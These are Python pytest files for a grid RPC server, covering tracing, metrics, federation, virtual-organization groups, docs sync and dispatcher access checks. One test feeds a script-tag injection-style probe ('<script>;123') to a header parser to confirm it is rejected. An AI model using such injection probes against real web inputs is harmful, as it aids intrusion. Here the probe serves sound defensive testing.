        "", ";", "abc", "abc;", ";def", "xyz;123", "abc;de fg",
        "a" * 65 + ";bb", "<script>;123",
    ])
    def test_garbage_headers_degrade_to_untraced(self, garbage):
        assert TraceContext.from_header(garbage) is None

    def test_ambient_context_nests_and_restores(self):
        assert current_trace() is None
        outer = TraceContext.new()
        inner = outer.child()
        with use_trace(outer):
            assert current_trace() is outer
            with use_trace(inner):
                assert current_trace() is inner
            assert current_trace() is outer
        assert current_trace() is None


class TestSpanRecorder:
    def _span(self, trace_id="t" * 16, **kwargs):
        return Span(trace_id=trace_id, span_id="s" * 16, **kwargs)

    def test_ring_is_bounded(self):
        recorder = SpanRecorder(capacity=4)
        for i in range(10):
            recorder.record(self._span(method=f"m{i}"))
        stats = recorder.stats()
        assert stats == {"recorded": 10, "retained": 4, "capacity": 4}
        assert [s.method for s in recorder.recent()] == \
            ["m6", "m7", "m8", "m9"]

    def test_by_trace_filters(self):
        recorder = SpanRecorder()
        recorder.record(self._span(trace_id="a" * 16))
        recorder.record(self._span(trace_id="b" * 16))
        recorder.record(self._span(trace_id="a" * 16))
        assert len(recorder.by_trace("a" * 16)) == 2
        assert recorder.by_trace("c" * 16) == []


# ---------------------------------------------------------------------------
# MetricsRegistry
# ---------------------------------------------------------------------------

class TestMetricsRegistry:
    def test_counter_and_gauge_render(self):
        registry = MetricsRegistry()
        requests = registry.counter("demo_requests_total", "Requests.",
                                    labels=("status",))
        requests.inc(status="ok")
        requests.inc(2, status="fault")
        registry.gauge("demo_queue_depth", "Depth.").set(7)
        text = registry.render()
        assert "# HELP demo_requests_total Requests." in text
        assert "# TYPE demo_requests_total counter" in text
        assert 'demo_requests_total{status="ok"} 1' in text
        assert 'demo_requests_total{status="fault"} 2' in text
        assert "# TYPE demo_queue_depth gauge" in text
        assert "demo_queue_depth 7" in text

    def test_histogram_renders_cumulative_buckets(self):
        registry = MetricsRegistry()
        hist = registry.histogram("demo_seconds", "Latency.",
                                  buckets=(0.1, 1.0, 10.0))
        for value in (0.05, 0.5, 0.5, 5.0, 50.0):
            hist.observe(value)
        text = registry.render()
        assert 'demo_seconds_bucket{le="0.1"} 1' in text
        assert 'demo_seconds_bucket{le="1"} 3' in text
        assert 'demo_seconds_bucket{le="10"} 4' in text
        assert 'demo_seconds_bucket{le="+Inf"} 5' in text
        assert "demo_seconds_count 5" in text
        assert "demo_seconds_sum 56.05" in text

    def test_label_values_escaped(self):
        registry = MetricsRegistry()
        registry.counter("demo_total", labels=("who",)).inc(
            who='DN with "quotes" and \\slashes\\')
        line = [l for l in registry.render().splitlines()
                if l.startswith("demo_total")][0]
        assert line == ('demo_total{who="DN with \\"quotes\\" '
                        'and \\\\slashes\\\\"} 1')

    def test_re_registration_must_match(self):
        registry = MetricsRegistry()
        first = registry.counter("demo_total", labels=("a",))
        assert registry.counter("demo_total", labels=("a",)) is first
        with pytest.raises(ValueError):
            registry.gauge("demo_total", labels=("a",))
        with pytest.raises(ValueError):
            registry.counter("demo_total", labels=("b",))

    def test_label_name_mismatch_rejected(self):
        counter = MetricsRegistry().counter("demo_total", labels=("a",))
        with pytest.raises(ValueError):
            counter.inc(b="nope")

    def test_callbacks_sampled_per_scrape(self):
        registry = MetricsRegistry()
        depth = {"value": 1.0}
        registry.register_callback(
            "demo_depth", "Sampled.", "gauge",
            lambda: [({"pool": "main"}, depth["value"])])
        assert 'demo_depth{pool="main"} 1' in registry.render()
        depth["value"] = 9.0
        assert 'demo_depth{pool="main"} 9' in registry.render()
        with pytest.raises(ValueError):
            registry.register_callback("demo_depth", "", "gauge", lambda: [])

    def test_failing_callback_does_not_break_the_scrape(self):
        registry = MetricsRegistry()
        registry.counter("demo_ok_total").inc()

        def boom():
            raise RuntimeError("stats surface went away")

        registry.register_callback("demo_bad", "", "gauge", boom)
        text = registry.render()
        assert "demo_ok_total 1" in text
        assert "demo_bad" not in text
        assert "demo_bad" not in registry.collect()

    def test_every_rendered_line_is_valid_exposition(self):
        registry = MetricsRegistry()
        registry.counter("demo_total", "T.", labels=("x",)).inc(x="y")
        registry.histogram("demo_seconds", "S.").observe(0.25)
        for line in registry.render().splitlines():
            if line.startswith("#"):
                assert line.startswith(("# HELP ", "# TYPE "))
            else:
                assert SAMPLE_LINE.match(line), line


# ---------------------------------------------------------------------------
# SlowRequestLog
# ---------------------------------------------------------------------------

class TestSlowRequestLog:
    def _span(self, seconds, **kwargs):
        return Span(trace_id="t" * 16, span_id="s" * 16,
                    duration_s=seconds, **kwargs)

    def test_disabled_at_zero_threshold(self):
        slow = SlowRequestLog(0.0)
        assert not slow.enabled
        assert not slow.observe(self._span(10.0))
        assert slow.entries() == []

    def test_only_over_budget_requests_retained(self):
        slow = SlowRequestLog(threshold_ms=50.0)
        assert not slow.observe(self._span(0.01))
        assert slow.observe(self._span(0.2, method="replica.replicate",
                                       stage_seconds={"invoke": 0.19}))
        entries = slow.entries()
        assert len(entries) == 1
        assert entries[0]["method"] == "replica.replicate"
        assert entries[0]["total_ms"] == pytest.approx(200.0)
        assert slow.stats()["observed"] == 1


# ---------------------------------------------------------------------------
# One telemetry-enabled server (loopback)
# ---------------------------------------------------------------------------

class TestServerTelemetry:
    @pytest.fixture()
    def site(self, telemetry_ca):
        server = build_site(telemetry_ca, "tele-solo")
        yield server
        server.close()

    def test_every_rpc_records_a_span(self, site, admin_credential):
        admin = login(site, admin_credential)
        assert admin.call("system.ping") == "pong"
        result = admin.call("system.trace")
        assert result["server"] == "tele-solo"
        methods = [s["method"] for s in result["spans"]]
        assert "system.ping" in methods
        ping = [s for s in result["spans"] if s["method"] == "system.ping"][0]
        assert HEX_ID.match(ping["trace_id"])
        assert ping["status"] == "ok"
        assert ping["identity"] == OPS_DN
        assert ping["stage_seconds"]        # per-stage attribution rode along
        assert result["stats"]["spans"]["recorded"] >= 2
        admin.close()

    def test_client_supplied_trace_header_is_honoured(self, site,
                                                      admin_credential):
        admin = login(site, admin_credential)
        mine = TraceContext.new()
        with use_trace(mine):
            admin.call("system.ping")
        spans = admin.call("system.trace", mine.trace_id)["spans"]
        assert len(spans) == 1
        assert spans[0]["trace_id"] == mine.trace_id
        assert spans[0]["parent_id"] == mine.span_id
        admin.close()

    def test_faulting_request_is_a_fault_span(self, site, admin_credential):
        admin = login(site, admin_credential)
        with pytest.raises(Fault) as excinfo:
            admin.call("system.no_such_method")
        spans = admin.call("system.trace")["spans"]
        bad = [s for s in spans if s["method"] == "system.no_such_method"][0]
        assert bad["status"] == "fault"
        # The span records the same code the client saw on the wire.
        assert bad["fault_code"] == excinfo.value.code
        assert bad["fault_string"]
        admin.close()

    def test_trace_rpc_is_admin_only(self, site, user_credential):
        user = login(site, user_credential)
        for method in ("system.trace", "system.metrics"):
            with pytest.raises(Fault) as excinfo:
                user.call(method)
            assert excinfo.value.code == FaultCode.ACCESS_DENIED
        user.close()

    def test_metrics_rpc_returns_snapshot_and_exposition(self, site,
                                                         admin_credential):
        admin = login(site, admin_credential)
        admin.call("system.ping")
        result = admin.call("system.metrics")
        series = result["metrics"]["clarens_requests_total"]["series"]
        ok = [s for s in series if s["labels"] == {"status": "ok"}][0]
        assert ok["value"] >= 1
        assert "# TYPE clarens_requests_total counter" in result["exposition"]
        admin.close()

    def test_slow_log_feeds_system_trace(self, telemetry_ca, admin_credential):
        server = build_site(telemetry_ca, "tele-slow",
                            telemetry_slow_ms=0.0001)
        try:
            admin = login(server, admin_credential)
            admin.call("system.ping")
            slow = admin.call("system.trace")["slow_requests"]
            assert any(e["method"] == "system.ping" for e in slow)
            assert all(e["total_ms"] >= 0.0001 for e in slow)
            admin.close()
        finally:
            server.close()

    def test_disabled_server_has_no_telemetry_surface(self, telemetry_ca,
                                                      admin_credential):
        from repro.httpd.message import HTTPRequest
        server = build_site(telemetry_ca, "tele-off", telemetry_enabled=False)
        try:
            assert server.telemetry is None
            admin = login(server, admin_credential)
            for method in ("system.trace", "system.metrics"):
                with pytest.raises(Fault) as excinfo:
                    admin.call(method)
                assert excinfo.value.code == FaultCode.NOT_FOUND
            response = server.handle_request(
                HTTPRequest(method="GET", path="/metrics"))
            assert response.status == 404
            admin.close()
        finally:
            server.close()

    def test_negative_knobs_rejected_at_config_time(self):
        with pytest.raises(ConfigError):
            ServerConfig(telemetry_slow_ms=-1.0)
        with pytest.raises(ConfigError):
            ServerConfig(telemetry_trace_buffer=0)


# ---------------------------------------------------------------------------
# Federation: two socket servers, one trace
# ---------------------------------------------------------------------------

def reserve_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture()
def traced_mesh(telemetry_ca):
    """Two telemetry-enabled servers peered via ``fabric_peers`` strings.

    The fabric channels dial real sockets and authenticate with each
    server's host credential — the deployment shape the issue's acceptance
    criterion names.  Yields ``(site_a, site_b, port_a)``.
    """

    ports = {"tele-a": reserve_port(), "tele-b": reserve_port()}
    hosts = {site: telemetry_ca.issue_host(f"{site}.clarens.test")
             for site in ports}
    dns = {site: str(hosts[site].certificate.subject) for site in ports}
    servers, socks = {}, {}
    try:
        for site, other in (("tele-a", "tele-b"), ("tele-b", "tele-a")):
            config = ServerConfig(
                server_name=site, admins=[OPS_DN], host_dn=dns[site],
                telemetry_enabled=True, cache_enabled=True,
                fabric_peers=[f"{other}=http://127.0.0.1:"
                              f"{ports[other]}/|{dns[other]}"])
            servers[site] = ClarensServer(config, credential=hosts[site],
                                          trust_store=telemetry_ca.trust_store())
            socks[site] = servers[site].socket_server(port=ports[site])
            socks[site].__enter__()
        yield servers["tele-a"], servers["tele-b"], ports["tele-a"]
    finally:
        for sock in socks.values():
            sock.__exit__(None, None, None)
        for server in servers.values():
            server.close()


DATA = b"telemetry payload bytes " * 512


def seed_remote_lfn(site_a, site_b, admin_b, lfn):
    """Write ``lfn`` on B and register it in A's catalogue on the peer SE."""

    admin_b.call("file.write", lfn, DATA, False)
    admin_b.call("replica.register", lfn, "local", lfn)
    checksum = site_b.services["replica"].catalogue.entry(lfn)["checksum"]
    site_a.services["replica"].catalogue.register(
        lfn, "tele-b", lfn, size=len(DATA), checksum=checksum)
    return checksum


class TestFederationTracing:
    def test_multicall_replication_links_spans_across_servers(
            self, traced_mesh, admin_credential):
        site_a, site_b, _ = traced_mesh
        admin_a = login(site_a, admin_credential)
        admin_b = login(site_b, admin_credential)
        lfn = "/lfn/tele/multicall.dat"
        seed_remote_lfn(site_a, site_b, admin_b, lfn)

        ping, submitted = admin_a.multicall(
            [("system.ping", []),
             ("replica.replicate", [lfn, "local"])])
        assert ping == "pong"
        engine = site_a.services["replica"].engine
        engine.wait(submitted["transfer_id"], timeout=30.0)
        done = engine.get(submitted["transfer_id"])
        assert done.state.value == "done", done.error

        spans_a = admin_a.call("system.trace")["spans"]
        batch = [s for s in spans_a if s["method"] == "system.multicall"][-1]
        trace_id = batch["trace_id"]
        # Each batch entry ran as a child span of the multicall request.
        entries = [s for s in spans_a if s["parent_id"] == batch["span_id"]]
        assert sorted(s["method"] for s in entries) == \
            ["replica.replicate", "system.ping"]
        assert all(s["trace_id"] == trace_id for s in entries)

        # The pull from B (stat RPCs + ranged file GETs by the transfer
        # worker) carried the same trace id across the socket.
        spans_b = admin_b.call("system.trace", trace_id)["spans"]
        assert spans_b, "no spans of this trace reached tele-b"
        assert all(s["trace_id"] == trace_id for s in spans_b)
        assert all(s["server"] == "tele-b" for s in spans_b)
        assert any(s["protocol"] == "http" for s in spans_b)   # ranged GETs
        admin_a.close()
        admin_b.close()

    def test_remote_broker_read_links_spans(self, traced_mesh,
                                            admin_credential):
        site_a, site_b, _ = traced_mesh
        admin_a = login(site_a, admin_credential)
        admin_b = login(site_b, admin_credential)
        lfn = "/lfn/tele/read.dat"
        seed_remote_lfn(site_a, site_b, admin_b, lfn)

        # The only replica lives on the peer: A's broker reads through the
        # RemoteStorageElement, inside the RPC's ambient trace.
        assert bytes(admin_a.call("replica.read", lfn, 0, -1)) == DATA
        spans_a = admin_a.call("system.trace")["spans"]
        read = [s for s in spans_a if s["method"] == "replica.read"][-1]
        spans_b = admin_b.call("system.trace", read["trace_id"])["spans"]
        assert spans_b, "remote read produced no spans on tele-b"
        assert all(s["trace_id"] == read["trace_id"] for s in spans_b)
        admin_a.close()
        admin_b.close()

    def test_quarantine_heal_chain_is_one_trace(self, traced_mesh,
                                                admin_credential):
        """verify → quarantine → policy heal → peer pull: one trace id."""

        site_a, site_b, _ = traced_mesh
        admin_a = login(site_a, admin_credential)
        admin_b = login(site_b, admin_credential)
        lfn = "/lfn/tele/gov/heal.dat"
        seed_remote_lfn(site_a, site_b, admin_b, lfn)
        # A local copy, then a 2-copy policy governing the LFN on A.
        admin_a.call("file.write", lfn, DATA, False)
        admin_a.call("replica.register", lfn, "local", lfn)
        admin_a.call("replica.set_policy", "/lfn/tele/gov", 2)

        # Corrupt the local bytes: the traced verify RPC quarantines the
        # copy, the quarantine event (published synchronously under the
        # verify's ambient trace) schedules a heal, and the heal transfer
        # carries the trace to the pull from B.
        admin_a.call("file.write", lfn, b"bit rot", False)
        entry = admin_a.call("replica.verify", lfn, "local")
        assert entry["replicas"]["local"]["state"] == "quarantined"

        deadline = time.monotonic() + 15.0
        while time.monotonic() < deadline:
            states = {se: r["state"] for se, r in
                      admin_a.call("replica.stat", lfn)["replicas"].items()}
            healthy = sum(1 for s in states.values() if s == "active")
            if healthy >= 2:
                break
            time.sleep(0.02)
        else:
            raise AssertionError(f"heal never restored 2 copies: {states}")

        spans_a = admin_a.call("system.trace")["spans"]
        verify = [s for s in spans_a if s["method"] == "replica.verify"][-1]
        spans_b = admin_b.call("system.trace", verify["trace_id"])["spans"]
        assert spans_b, "heal chain produced no spans on tele-b"
        assert all(s["trace_id"] == verify["trace_id"] for s in spans_b)
        admin_a.close()
        admin_b.close()


# ---------------------------------------------------------------------------
# GET /metrics over a live socket (the tier-1 scrape smoke)
# ---------------------------------------------------------------------------

class TestMetricsScrape:
    def test_live_socket_scrape_is_valid_exposition(self, traced_mesh,
                                                    admin_credential):
        site_a, site_b, port_a = traced_mesh
        admin_a = login(site_a, admin_credential)
        admin_b = login(site_b, admin_credential)
        lfn = "/lfn/tele/scrape.dat"
        seed_remote_lfn(site_a, site_b, admin_b, lfn)
        # Touch the dispatch, cache, replica and fabric paths so their
        # series carry samples.
        admin_a.call("system.ping")
        submitted = admin_a.call("replica.replicate", lfn, "local")
        site_a.services["replica"].engine.wait(submitted["transfer_id"],
                                               timeout=30.0)

        conn = http.client.HTTPConnection("127.0.0.1", port_a, timeout=10)
        try:
            conn.request("GET", "/metrics")
            response = conn.getresponse()
            assert response.status == 200
            assert response.getheader("Content-Type").startswith(
                "text/plain; version=0.0.4")
            body = response.read().decode("utf-8")
        finally:
            conn.close()

        families = set()
        for line in body.splitlines():
            if not line:
                continue
            if line.startswith("#"):
                assert line.startswith(("# HELP ", "# TYPE ")), line
                continue
            assert SAMPLE_LINE.match(line), f"invalid exposition line: {line}"
            families.add(line.split("{", 1)[0].split(" ", 1)[0])
        # The issue's acceptance list: dispatch, cache, replica and fabric
        # series all present in one scrape.
        for expected in ("clarens_requests_total", "clarens_request_seconds_bucket",
                         "clarens_dispatch_total", "clarens_cache_operations_total",
                         "clarens_sessions_active", "clarens_bus_events_total",
                         "clarens_replica_transfers_total", "clarens_fabric_peers",
                         "clarens_fabric_channel_total"):
            assert any(f.startswith(expected) for f in families), \
                f"{expected} missing from scrape ({sorted(families)})"
        admin_a.close()
        admin_b.close()
