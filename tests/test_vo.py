"""Virtual Organization management: the model and the RPC service."""

from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from repro.database import Database
from repro.protocols.errors import Fault
from repro.vo.model import ADMINS_GROUP, VOError, VOManager

ADMIN = "/O=vo.test/OU=People/CN=Root Admin"
LEAD = "/O=vo.test/OU=People/CN=Group Lead"
MEMBER = "/O=vo.test/OU=People/CN=Plain Member"
OUTSIDER = "/O=vo.test/OU=People/CN=Outsider"


@pytest.fixture()
def vo():
    return VOManager(Database(), admins=[ADMIN])


class TestAdminsGroup:
    def test_admins_group_exists_and_contains_config_dns(self, vo):
        group = vo.get_group(ADMINS_GROUP)
        assert ADMIN in group.members
        assert vo.is_admin(ADMIN)
        assert not vo.is_admin(OUTSIDER)

    def test_admins_group_cannot_be_deleted_or_created(self, vo):
        with pytest.raises(VOError):
            vo.delete_group(ADMINS_GROUP)
        with pytest.raises(VOError):
            vo.create_group(ADMINS_GROUP)

    def test_admins_refreshed_from_config(self):
        db = Database()
        VOManager(db, admins=["/O=vo.test/CN=First"])
        refreshed = VOManager(db, admins=["/O=vo.test/CN=Second"])
        assert refreshed.is_admin("/O=vo.test/CN=Second")
        assert not refreshed.is_admin("/O=vo.test/CN=First")


class TestGroupTree:
    def test_create_figure2_structure(self, vo):
        # Figure 2: top-level groups A, B, C with second-level A.1, A.2, A.3.
        for name in ("A", "B", "C"):
            vo.create_group(name, actor_dn=ADMIN)
        for name in ("A.1", "A.2", "A.3"):
            vo.create_group(name, actor_dn=ADMIN)
        assert vo.list_groups() == ["A", "A.1", "A.2", "A.3", "B", "C", ADMINS_GROUP]
        assert vo.list_groups("A") == ["A", "A.1", "A.2", "A.3"]
        assert vo.tree()["A"] == {"1": {}, "2": {}, "3": {}}

    def test_parent_must_exist(self, vo):
        with pytest.raises(VOError):
            vo.create_group("cms.higgs", actor_dn=ADMIN)

    def test_duplicate_group_rejected(self, vo):
        vo.create_group("cms", actor_dn=ADMIN)
        with pytest.raises(VOError):
            vo.create_group("cms", actor_dn=ADMIN)

    @pytest.mark.parametrize("bad", ["", "a b", "x..y", "grp/1", ".leading"])
    def test_invalid_names_rejected(self, vo, bad):
        with pytest.raises(VOError):
            vo.create_group(bad, actor_dn=ADMIN)

    def test_delete_requires_recursive_for_subtrees(self, vo):
        vo.create_group("cms", actor_dn=ADMIN)
        vo.create_group("cms.higgs", actor_dn=ADMIN)
        with pytest.raises(VOError):
            vo.delete_group("cms", actor_dn=ADMIN)
        vo.delete_group("cms", actor_dn=ADMIN, recursive=True)
        assert not vo.group_exists("cms.higgs")


class TestMembership:
    def make_tree(self, vo):
        vo.create_group("cms", actor_dn=ADMIN, members=[MEMBER], admins=[LEAD])
        vo.create_group("cms.higgs", actor_dn=ADMIN)
        vo.create_group("cms.higgs.students", actor_dn=ADMIN)
        vo.create_group("atlas", actor_dn=ADMIN)

    def test_higher_level_membership_implies_lower(self, vo):
        self.make_tree(vo)
        # MEMBER belongs to cms, therefore to cms.higgs and cms.higgs.students.
        assert vo.is_member(MEMBER, "cms")
        assert vo.is_member(MEMBER, "cms.higgs")
        assert vo.is_member(MEMBER, "cms.higgs.students")
        assert not vo.is_member(MEMBER, "atlas")

    def test_lower_level_membership_does_not_imply_higher(self, vo):
        self.make_tree(vo)
        vo.add_member("cms.higgs", OUTSIDER, actor_dn=ADMIN)
        assert vo.is_member(OUTSIDER, "cms.higgs")
        assert not vo.is_member(OUTSIDER, "cms")

    def test_dn_prefix_membership(self, vo):
        vo.create_group("everyone", actor_dn=ADMIN, members=["/O=vo.test/OU=People"])
        assert vo.is_member(MEMBER, "everyone")
        assert vo.is_member(OUTSIDER, "everyone")
        assert not vo.is_member("/O=other.org/OU=People/CN=Foreign", "everyone")

    def test_group_admins_count_as_members(self, vo):
        self.make_tree(vo)
        assert vo.is_member(LEAD, "cms")
        assert vo.is_member(LEAD, "cms.higgs")

    def test_groups_for_lists_all_memberships(self, vo):
        self.make_tree(vo)
        assert vo.groups_for(MEMBER) == ["cms", "cms.higgs", "cms.higgs.students"]

    def test_membership_of_unknown_group_is_false(self, vo):
        assert not vo.is_member(MEMBER, "ghosts")


class TestAuthorization:
    def make_tree(self, vo):
        vo.create_group("cms", actor_dn=ADMIN, admins=[LEAD])
        vo.create_group("cms.higgs", actor_dn=ADMIN)

    def test_group_admin_can_manage_members_and_subgroups(self, vo):
        self.make_tree(vo)
        vo.add_member("cms", MEMBER, actor_dn=LEAD)
        assert vo.is_member(MEMBER, "cms")
        vo.remove_member("cms", MEMBER, actor_dn=LEAD)
        assert not vo.is_member(MEMBER, "cms")
        vo.create_group("cms.higgs.ml", actor_dn=LEAD)
        vo.delete_group("cms.higgs.ml", actor_dn=LEAD)

    def test_group_admin_scope_limited_to_branch(self, vo):
        self.make_tree(vo)
        vo.create_group("atlas", actor_dn=ADMIN)
        with pytest.raises(VOError):
            vo.add_member("atlas", MEMBER, actor_dn=LEAD)
        with pytest.raises(VOError):
            vo.create_group("atlas.sub", actor_dn=LEAD)

    def test_plain_member_cannot_administer(self, vo):
        self.make_tree(vo)
        with pytest.raises(VOError):
            vo.add_member("cms", OUTSIDER, actor_dn=MEMBER)
        with pytest.raises(VOError):
            vo.delete_group("cms.higgs", actor_dn=MEMBER)

    def test_admins_group_membership_managed_by_config_only(self, vo):
        with pytest.raises(VOError):
            vo.add_admin(ADMINS_GROUP, OUTSIDER, actor_dn=ADMIN)
        with pytest.raises(VOError):
            vo.remove_admin(ADMINS_GROUP, ADMIN, actor_dn=ADMIN)


class TestVOService:
    def test_rpc_group_lifecycle(self, admin_client, client, alice_credential):
        alice_dn = str(alice_credential.certificate.subject)
        admin_client.call("vo.create_group", "cms", [alice_dn], [], "CMS collaboration")
        admin_client.call("vo.create_group", "cms.higgs", [], [], "")
        assert client.call("vo.is_member", alice_dn, "cms.higgs") is True
        assert "cms" in client.call("vo.my_groups")
        group = client.call("vo.get_group", "cms")
        assert alice_dn in group["members"]

    def test_rpc_requires_authorization(self, client):
        with pytest.raises(Fault):
            client.call("vo.create_group", "rogue", [], [], "")

    def test_rpc_tree_and_admin_queries(self, admin_client):
        admin_client.call("vo.create_group", "ligo", [], [], "")
        tree = admin_client.call("vo.tree")
        assert "ligo" in tree
        assert admin_client.call("vo.is_admin", "", "") is True


# -- property-based: hierarchy monotonicity ------------------------------------------

_group_paths = st.lists(
    st.sampled_from(["a", "b", "c"]), min_size=1, max_size=3).map(lambda parts: ".".join(parts))


@settings(deadline=None, max_examples=30)
@given(st.sets(_group_paths, min_size=1, max_size=8), st.sampled_from(["a", "a.b", "a.b.c", "b"]))
def test_membership_is_monotone_down_the_tree(group_names, member_of):
    """If a DN is a member of G, it is a member of every descendant of G."""

    vo = VOManager(Database(), admins=[ADMIN])
    # Create groups in sorted order so parents exist before children; skip any
    # whose parent was not generated.
    for name in sorted(group_names):
        parent = name.rsplit(".", 1)[0] if "." in name else None
        if parent is not None and not vo.group_exists(parent):
            continue
        vo.create_group(name, actor_dn=ADMIN)
    if not vo.group_exists(member_of):
        return
    dn = "/O=vo.test/OU=People/CN=Prop Member"
    vo.add_member(member_of, dn, actor_dn=ADMIN)
    for name in vo.list_groups():
        if name == ADMINS_GROUP:
            continue
        if name == member_of or name.startswith(member_of + "."):
            assert vo.is_member(dn, name)
