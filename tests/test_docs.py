"""The docs tree stays present and the generated config reference in sync.

``docs/config.md`` is generated from the ``ServerConfig`` dataclass by
``scripts/gen_config_docs.py``; these tests fail whenever a knob is added,
removed, or re-documented without regenerating the table, and whenever the
hand-written docs pages disappear or lose their cross-links.
"""

from __future__ import annotations

import importlib.util
import pathlib

import pytest

from repro.core.config import ServerConfig

REPO_ROOT = pathlib.Path(__file__).resolve().parent.parent
DOCS_DIR = REPO_ROOT / "docs"


def _load_generator():
    spec = importlib.util.spec_from_file_location(
        "gen_config_docs", REPO_ROOT / "scripts" / "gen_config_docs.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


class TestConfigReference:
    def test_config_docs_in_sync_with_dataclass(self):
        """Committed docs/config.md must equal a fresh render, byte for byte."""

        gen = _load_generator()
        committed = (DOCS_DIR / "config.md").read_text()
        assert committed == gen.render(), (
            "docs/config.md is stale — run: python scripts/gen_config_docs.py")

    def test_every_dataclass_field_is_documented(self):
        gen = _load_generator()
        documented = {f["name"] for f in gen.extract_fields()}
        declared = set(ServerConfig.__dataclass_fields__)
        assert documented == declared

    def test_every_field_has_a_doc_comment(self):
        """Every knob needs a ``#:`` comment — that text *is* the reference."""

        gen = _load_generator()
        undocumented = [f["name"] for f in gen.extract_fields() if not f["doc"]]
        assert not undocumented

    def test_generator_detects_new_fields(self):
        """Adding a knob to the source changes the parse (the sync contract)."""

        gen = _load_generator()
        source = (REPO_ROOT / "src/repro/core/config.py").read_text()
        patched = source.replace(
            "    #: Extra free-form settings",
            "    #: A brand new knob.\n"
            "    totally_new_knob: int = 7\n"
            "    #: Extra free-form settings")
        names = {f["name"] for f in gen.extract_fields(patched)}
        assert "totally_new_knob" in names
        assert next(f for f in gen.extract_fields(patched)
                    if f["name"] == "totally_new_knob")["doc"] == "A brand new knob."


class TestDocsTree:
    @pytest.mark.parametrize("page", ["architecture.md", "replication.md",
                                      "operations.md", "config.md",
                                      "federation.md", "observability.md"])
    def test_page_exists_and_has_a_title(self, page):
        path = DOCS_DIR / page
        assert path.is_file()
        text = path.read_text()
        assert text.startswith("# ")
        assert len(text) > 500, f"{page} looks like a stub"

    def test_pages_cross_link(self):
        """The hand-written pages reference each other and the config table."""

        arch = (DOCS_DIR / "architecture.md").read_text()
        assert "replication.md" in arch and "config.md" in arch
        assert "federation.md" in arch
        repl = (DOCS_DIR / "replication.md").read_text()
        assert "architecture.md" in repl and "operations.md" in repl
        fed = (DOCS_DIR / "federation.md").read_text()
        assert "architecture.md" in fed and "config.md" in fed
        obs = (DOCS_DIR / "observability.md").read_text()
        assert "architecture.md" in obs and "config.md" in obs
