"""The dispatcher: protocol handling, access checks, faults, stats."""

from __future__ import annotations

import pytest

from repro.client.client import ClarensClient
from repro.core.dispatch import SESSION_HEADER
from repro.httpd.message import Headers, HTTPRequest
from repro.protocols import JSONRPCCodec, SOAPCodec, XMLRPCCodec
from repro.protocols.errors import Fault, FaultCode
from repro.protocols.types import RPCRequest

from tests.conftest import build_server


def rpc_post(server, body: bytes, *, content_type="text/xml", session_id=None, client_dn=None):
    headers = Headers({"Content-Type": content_type})
    if session_id:
        headers.set(SESSION_HEADER, session_id)
    request = HTTPRequest(method="POST", path=server.config.rpc_path(), headers=headers,
                          body=body, client_dn=client_dn)
    return server.handle_request(request)


class TestProtocolHandling:
    @pytest.mark.parametrize("codec", [XMLRPCCodec(), SOAPCodec(), JSONRPCCodec()],
                             ids=["xml-rpc", "soap", "json-rpc"])
    def test_each_protocol_served_on_same_endpoint(self, server, codec):
        body = codec.encode_request(RPCRequest("system.list_methods"))
        response = rpc_post(server, body, content_type=codec.content_type)
        assert response.status == 200
        result = codec.decode_response(response.body_bytes()).unwrap()
        assert "system.list_methods" in result

    def test_garbage_body_produces_parse_fault(self, server):
        response = rpc_post(server, b"complete garbage", content_type="text/plain")
        decoded = XMLRPCCodec().decode_response(response.body_bytes())
        assert decoded.is_fault and decoded.fault.code == FaultCode.PARSE_ERROR

    def test_malformed_xml_produces_parse_fault(self, server):
        response = rpc_post(server, b"<?xml version='1.0'?><methodCall><broken>")
        decoded = XMLRPCCodec().decode_response(response.body_bytes())
        assert decoded.is_fault and decoded.fault.code == FaultCode.PARSE_ERROR

    def test_jsonrpc_call_id_echoed(self, server):
        codec = JSONRPCCodec()
        body = codec.encode_request(RPCRequest("system.ping", call_id=42))
        response = rpc_post(server, body, content_type="application/json")
        decoded = codec.decode_response(response.body_bytes())
        assert decoded.call_id == 42 and decoded.result == "pong"


class TestAccessChecks:
    def test_unknown_method_fault(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("nothing.here")
        assert excinfo.value.code == FaultCode.NOT_FOUND

    def test_protected_method_requires_session(self, anon_client):
        with pytest.raises(Fault) as excinfo:
            anon_client.call("file.ls", "/")
        assert excinfo.value.code == FaultCode.AUTHENTICATION_REQUIRED

    def test_anonymous_methods_allowed_without_session(self, anon_client):
        assert anon_client.call("system.ping") == "pong"
        assert isinstance(anon_client.call("system.list_methods"), list)

    def test_anonymous_calls_rejected_when_disabled(self, ca, host_credential):
        server = build_server(ca, host_credential, allow_anonymous_system_calls=False)
        try:
            client = ClarensClient.for_loopback(server.loopback())
            with pytest.raises(Fault) as excinfo:
                client.call("system.ping")
            assert excinfo.value.code == FaultCode.AUTHENTICATION_REQUIRED
        finally:
            server.close()

    def test_bogus_session_id_rejected(self, server):
        body = XMLRPCCodec().encode_request(RPCRequest("system.whoami"))
        response = rpc_post(server, body, session_id="f" * 32)
        decoded = XMLRPCCodec().decode_response(response.body_bytes())
        assert decoded.is_fault and decoded.fault.code == FaultCode.SESSION_EXPIRED

    def test_tls_client_dn_bypasses_session_requirement(self, server, alice_credential):
        body = XMLRPCCodec().encode_request(RPCRequest("system.whoami"))
        dn = str(alice_credential.certificate.subject)
        response = rpc_post(server, body, client_dn=dn)
        decoded = XMLRPCCodec().decode_response(response.body_bytes()).unwrap()
        assert decoded["dn"] == dn

    def test_acl_denial_produces_access_denied_fault(self, server, admin_client, client):
        from repro.acl.model import ACL

        admin_client.call("acl.set_method_acl", "file",
                          ACL(order="allow,deny", dns_allowed=["/O=nobody/CN=none"]).to_record())
        with pytest.raises(Fault) as excinfo:
            client.call("file.ls", "/")
        assert excinfo.value.code == FaultCode.ACCESS_DENIED
        # system methods remain reachable: the denial was scoped to "file".
        assert client.call("system.ping") == "pong"

    def test_access_checks_zero_skips_session_validation(self, ca, host_credential):
        server = build_server(ca, host_credential, access_checks_per_request=0)
        try:
            client = ClarensClient.for_loopback(server.loopback())
            # Normally protected (requires authentication); with checks disabled
            # the call goes straight to the method, which then sees no DN.
            result = client.call("system.whoami")
            assert result["authenticated"] is False
        finally:
            server.close()

    def test_invalid_params_fault(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("system.method_help")  # missing required argument
        assert excinfo.value.code == FaultCode.INVALID_PARAMS


class TestStats:
